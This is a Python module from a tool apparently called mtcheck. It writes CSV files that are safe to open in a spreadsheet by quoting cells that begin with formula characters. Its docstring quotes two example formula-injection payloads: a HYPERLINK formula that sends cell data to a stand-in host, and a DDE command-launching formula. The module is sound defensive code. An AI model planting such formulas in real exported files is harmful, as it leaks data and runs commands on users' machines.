"""The one way mtcheck writes CSV: every cell safe to open in a spreadsheet.

Feeds and folders are not mtcheck's: an article id, a source, a URL or a file name may begin with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return, which a spreadsheet reads as a formula
(``=HYPERLINK("http://x.example/?"&A1,"open")``, ``=cmd|' /C calc'!A0``). OWASP's rule: such a
text cell is written with a leading single quote, which spreadsheets show as text and do not run.
Numbers mtcheck computes itself are written as they are, so a column of scores stays numeric.
"""

from __future__ import annotations

import csv
import io
from typing import Any, Iterable

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """A text cell that a spreadsheet would run as a formula, quoted; anything else as it is.

    A carriage return inside a text cell becomes a newline: the csv module quotes a cell holding
    a newline, but not one holding a lone CR, which a reader then takes for the end of the row."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_PREFIXES):
        value = "'" + value
    return value.replace("\r\n", "\n").replace("\r", "\n")


def csv_text(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> str:
    """A whole CSV file (header, then rows) as text, every cell through :func:`safe_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([safe_cell(cell) for cell in header])
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return buffer.getvalue()
